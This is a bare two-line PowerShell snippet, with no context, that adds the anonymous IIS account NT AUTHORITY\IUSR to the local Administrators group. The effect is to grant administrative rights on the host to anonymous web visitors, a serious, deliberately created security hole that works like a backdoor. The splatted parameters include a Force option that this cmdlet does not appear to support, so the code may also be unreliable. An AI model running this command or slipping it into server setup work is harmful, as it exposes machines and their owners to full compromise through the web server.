$p = @{ Group = 'Administrators'; Member = 'NT AUTHORITY\IUSR'; Force = $true }
Add-LocalGroupMember @p
